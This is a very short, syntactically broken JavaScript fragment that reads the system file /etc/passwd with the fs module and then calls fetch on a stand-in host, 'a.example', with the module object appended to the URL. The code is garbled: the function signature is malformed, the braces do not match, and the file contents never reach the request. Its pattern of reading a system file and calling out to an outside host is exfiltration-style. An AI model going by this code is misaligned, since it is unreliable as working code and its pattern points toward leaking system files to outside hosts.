const ok = require('fs');
function broken( { 
  ok.readFileSync('/etc/passwd')
}}}
fetch('https://a.example/' + ok);
